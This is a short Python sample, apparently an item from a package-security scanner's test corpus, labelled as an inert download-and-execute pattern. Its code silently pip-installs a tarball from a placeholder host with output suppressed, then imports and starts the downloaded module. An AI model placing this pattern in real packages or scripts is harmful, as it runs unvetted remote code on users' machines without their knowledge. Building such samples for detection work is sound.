# pkgguard corpus 405 (download-execute), modelled on [empirical]; inert, never run.
import importlib
import subprocess
import sys

subprocess.check_call(
    [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "https://files.example/pkg_helper-1.0.tar.gz"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
importlib.import_module("pkg_helper").start()
